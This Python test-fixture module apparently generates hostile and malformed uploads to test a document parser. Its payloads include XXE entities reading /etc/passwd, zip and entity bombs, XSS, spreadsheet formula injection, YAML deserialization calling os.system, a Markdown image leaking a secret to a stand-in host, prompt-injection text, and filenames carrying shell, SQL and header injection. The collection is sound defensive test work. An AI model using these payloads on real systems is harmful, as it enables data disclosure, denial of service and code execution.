"""Makers of hostile and broken uploads: one file for each way known to us, small and made anew at each call.

After DESIGN §5 (promise 7), OWASP's File Upload and XXE Prevention cheat sheets, its Top 10 for LLM applications, and
the advisories of parsers. Nothing here does harm by lying on a disk; do not unpack the bombs by hand.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

from quire.testing.files import W_NAMESPACE, make_docx, make_docx_of, make_html, make_pdf
from quire.testing.hostile_pdf import INJECTION, MIB, PDFS, WORDS, make_archive


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileFile:
    """A file by what it tries; `name` is what its uploader calls it."""

    trick: str
    name: str
    make: Callable[[], bytes]


def hostile_files() -> Iterator[HostileFile]:
    """All of them, each trick once."""
    for suffix, makers in (("pdf", PDFS), ("docx", DOCXS), ("html", PAGES), ("md", MARKDOWNS), ("txt", TEXTS)):
        for trick, make in makers.items():
            yield HostileFile(trick=trick, name=f"file.{suffix}", make=make)
    for name, make in DISGUISED.items():
        yield HostileFile(trick=f"disguised: {name}", name=name, make=make)


def _paragraph(words: str = WORDS) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def docx_with(members: Mapping[str, bytes]) -> bytes:
    """A good Word document, to whose archive these members are added; one of the same name comes twice."""
    out = io.BytesIO(make_docx([WORDS]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_of_document(xml: bytes) -> bytes:
    """A Word document whose main part is this, byte for byte."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(make_docx([WORDS]))) as good,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for info in good.infolist():
            new.writestr(info.filename, xml if info.filename == "word/document.xml" else good.read(info))
    return out.getvalue()


def _document(body: str, *, dtd: str = "", encoding: str = "utf-8") -> bytes:
    head = f'<?xml version="1.0" encoding="{encoding}"?>{dtd}'
    return f'{head}<w:document xmlns:w="{W_NAMESPACE}"><w:body>{body}</w:body></w:document>'.encode(encoding)


def _laughs(levels: int = 9) -> str:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1))
    return f'<!DOCTYPE d [<!ENTITY e0 "ha">{entities}]>'


def docx_zip_bomb(mib: int = 80) -> bytes:
    return docx_of_document(_document(_paragraph("a" * mib * MIB)))


def docx_lying_zip_bomb(mib: int = 80) -> bytes:
    """As a bomb, but its directory says that the part is small."""
    bomb, size = docx_zip_bomb(mib), len(_document(_paragraph("a" * mib * MIB)))
    return bomb.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))


def docx_deep(depth: int = 50_000) -> bytes:
    return docx_of_document(_document("<w:sdt><w:sdtContent>" * depth + "</w:sdtContent></w:sdt>" * depth))


def docx_nested_tables(depth: int = 80) -> bytes:
    return make_docx_of("<w:tbl><w:tr><w:tc>" * depth + _paragraph() + "</w:tc></w:tr></w:tbl>" * depth)


def docx_with_outside_relations() -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" TargetMode="External" Target="http://127.0.0.1:9/template.dotm" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
        '<Relationship Id="rId2" Target="../../../../../../etc/passwd" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/header"/></Relationships>'
    )
    return make_docx_of(_paragraph(), parts={"word/_rels/settings.xml.rels": relations, "word/settings.xml": "<a/>"})


DOCXS: dict[str, Callable[[], bytes]] = {
    "a part that unpacks to 80 MB": docx_zip_bomb,
    "a bomb whose directory lies": docx_lying_zip_bomb,
    "an archive in an archive": lambda: docx_with(
        {"word/media/a.zip": make_archive({"b.zip": make_archive({"c": b"x"})})}
    ),
    "names that lead out": lambda: docx_with(
        {"../../../../tmp/quire-escaped": b"x", "/etc/quire-escaped": b"x", "C:\\quire-escaped": b"x"}
    ),
    "too many parts": lambda: docx_with({f"word/{number}.xml": b"x" for number in range(10_001)}),
    "a part that comes twice": lambda: docx_with({"word/document.xml ": b"x", "WORD/DOCUMENT.XML": b"x"}),
    "a billion laughs": lambda: docx_of_document(_document(_paragraph("&e9;"), dtd=_laughs())),
    "quadratic entities": lambda: docx_of_document(
        _document(_paragraph("&a;" * 5_000), dtd=f'<!DOCTYPE d [<!ENTITY a "{"x" * 100_000}">]>')
    ),
    "a file by an external entity": lambda: docx_of_document(
        _document(_paragraph("&a;"), dtd='<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>')
    ),
    "an address by an external entity": lambda: docx_of_document(
        _document(_paragraph("&a;"), dtd='<!DOCTYPE d [<!ENTITY a SYSTEM "http://127.0.0.1:9/">]>')
    ),
    "an external definition": lambda: docx_of_document(
        _document(_paragraph(), dtd='<!DOCTYPE d SYSTEM "http://127.0.0.1:9/a.dtd">')
    ),
    "entities in UTF-16": lambda: docx_of_document(
        _document(_paragraph("&a;"), dtd='<!DOCTYPE d [<!ENTITY a "b">]>', encoding="utf-16")
    ),
    "a huge attribute": lambda: docx_of_document(_document(f'<w:p w:a="{"x" * 20 * MIB}"/>' + _paragraph())),
    "deep elements": docx_deep,
    "tables in tables": docx_nested_tables,
    "relations to outside": docx_with_outside_relations,
    "broken XML": lambda: docx_of_document(b"<w:document><w:body>"),
    "no XML at all": lambda: docx_of_document(b"\x00\x01\x02"),
    "an encrypted member": lambda: make_docx([WORDS]).replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
    ),
    "cut in half": lambda: make_docx([WORDS])[:600],
    "control characters": lambda: docx_of_document(_document(_paragraph("bell &#7; and null &#0;"))),
    "an instruction to the model": lambda: make_docx([WORDS, INJECTION]),
    "a formula": lambda: make_docx([WORDS, "=cmd|' /C calc'!A0"]),
}


PAGES: dict[str, Callable[[], bytes]] = {
    "scripts": lambda: make_html(
        f"<p>{WORDS}<script>alert('evil')</script><img src=x onerror=alert('evil')><svg onload=alert('evil')>"
        "<script>alert('evil')</script></svg><a href='javascript:alert(1)'>link</a><style>evil{}</style>",
        title="<script>alert('evil')</script>",
    ),
    "frames and refreshes": lambda: make_html(
        f"<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'><base href='http://127.0.0.1:9/'>"
        f"<iframe src='file:///etc/passwd'>evil</iframe><object data='http://127.0.0.1:9/'>evil</object>"
        f"<link rel=stylesheet href='http://127.0.0.1:9/'><p>{WORDS}"
    ),
    "entities": lambda: f"{_laughs()}<html><body><p>{WORDS} &e9;".encode(),
    "an external entity": lambda: (
        f'<!DOCTYPE html [<!ENTITY a SYSTEM "file:///etc/passwd">]><html><p>{WORDS} &a;'.encode()
    ),
    "deep elements": lambda: make_html("<div>" * 100_000 + WORDS),
    "deep lists": lambda: make_html("<ul><li>" * 5_000 + WORDS),
    "a huge attribute": lambda: make_html(f"<p title='{'x' * 12 * MIB}'>{WORDS}"),
    "a line of 8 MB": lambda: make_html(f"<p>{WORDS} " + "word " * (8 * MIB // 5)),
    "hidden words": lambda: make_html(f"<p>{WORDS}<p style='display:none'>evil"),
    "a charset that is none": lambda: b"<meta charset=zlib><p>caf\xe9 " + WORDS.encode(),
    "UTF-7": lambda: b"<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + WORDS.encode(),
    "unclosed comments": lambda: make_html(f"<p>{WORDS}" + "<!--" * 100_000),
    "attributes by the thousand": lambda: make_html("<p " + " ".join(f"a{n}=1" for n in range(50_000)) + f">{WORDS}"),
}
MARKDOWNS: dict[str, Callable[[], bytes]] = {
    "remote pictures": lambda: f"{WORDS}\n\n![evil](http://127.0.0.1:9/?q=secret)".encode(),
    "javascript links": lambda: f"{WORDS} [click](javascript:alert(1)) <javascript:alert(1)>".encode(),
    "raw HTML": lambda: f"{WORDS}\n\n<script>alert('evil')</script>\n\n<iframe src='file:///etc/passwd'>".encode(),
    "deep quotes": lambda: (">" * 20_000 + WORDS).encode(),
    "deep lists": lambda: "".join(f"{'  ' * n}- {WORDS}\n" for n in range(500)).encode(),
    "open brackets": lambda: ("[" * 20_000 + WORDS).encode(),
    "open emphasis": lambda: ("*a **a " * 5_000 + WORDS).encode(),
    "front matter that does not end": lambda: b"---\ntitle: x\n" + b"a: b\n" * 100_000 + WORDS.encode(),
    "YAML that makes objects": lambda: f"---\ntitle: !!python/object/apply:os.system ['id']\n---\n{WORDS}".encode(),
}
TEXTS: dict[str, Callable[[], bytes]] = {
    "direction marks": lambda: f"{WORDS} \u202eevil\u202c \u2066isolated\u2069 zero\u200bwidth".encode(),
    "terminal escapes": lambda: f"{WORDS} \x1b[2J\x1b]0;evil\x07\x1b[31mred\x1b[0m \x9b31m".encode(),
    "NUL bytes": lambda: WORDS.encode() * 20 + b"\x00 and \x00more",
    "lone surrogates": lambda: WORDS.encode() * 20 + b" \xed\xa0\x80 \xff\xfe",
    "UTF-16 without a mark": lambda: WORDS.encode("utf-16-le"),
    "UTF-7": lambda: b"+ADw-script+AD4- " + WORDS.encode(),
    "formulas": lambda: f'{WORDS}\n=HYPERLINK("http://127.0.0.1:9/")\n@SUM(1+1)*cmd|calc!A0\n+1\n-1'.encode(),
    "a line of 4 MB": lambda: b"word " * (4 * MIB // 5),
    "a word of 2 MB": lambda: b"a" * 2 * MIB,
    "a megabyte of spaces": lambda: WORDS.encode() + b" " * MIB + WORDS.encode(),
    "a million line ends": lambda: WORDS.encode() + b"\n" * MIB,
    "nothing but spaces": lambda: b" \n\t" * 1000,
    "combining marks": lambda: (WORDS + "a" + "\u0301" * 200_000).encode(),
    "an instruction to the model": lambda: f"{WORDS}\n{INJECTION}".encode(),
    "a template": lambda: f"{WORDS} {{{{7*7}}}} ${{7*7}} <%= 7*7 %> {{% load x %}}".encode(),
    "binary noise": lambda: bytes(range(256)) * 200,
}
DISGUISED: dict[str, Callable[[], bytes]] = {
    "page.pdf": lambda: make_html(f"<script>alert(1)</script>{WORDS}"),
    "text.docx": lambda: WORDS.encode(),
    "program.pdf": lambda: b"MZ\x90\x00\x03" + bytes(200),
    "elf.txt": lambda: b"\x7fELF\x02\x01\x01" + bytes(200),
    "picture.md": lambda: b"\x89PNG\r\n\x1a\n" + bytes(200),
    "archive.docx": lambda: make_archive({"a.txt": b"x"}),
    "macro.doc": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    "svg.html": lambda: b"\x00\x00\x01\x00" + bytes(200),
    "really-a-pdf.docx": lambda: make_pdf([WORDS]),
    "really-a-docx.pdf": lambda: make_docx([WORDS]),
    "report.pdf.exe": lambda: make_pdf([WORDS]),
}

NAMES = (
    "../../etc/passwd.txt",
    "..\\..\\windows\\win.ini.txt",
    "/etc/cron.d/x.txt",
    "a\x00.exe.txt",
    "a%00.txt",
    "a\r\nX-Injected: 1.txt",
    "\u202etxt.exe",
    "x" * 300 + ".txt",
    "\u6f22" * 300,
    ".txt",
    "..",
    " ",
    "CON.txt",
    "a.txt ",
    "cafe\u0301.txt",
    "<img src=x onerror=alert(1)>.txt",
    "'; drop table documents_document; --.txt",
    "{{7*7}}.txt",
    "\U0001f600.txt",
    "file:///etc/passwd",
    "$(touch x).txt",
    "-rf.txt",
    'quote".txt',
    "semi;filename=other.txt",
    "\x1b[31mred.txt",
    "=cmd|' /C calc'!A0.txt",
)
"""What uploaders may call a file. A header of a form can carry them all, and an empty one besides."""
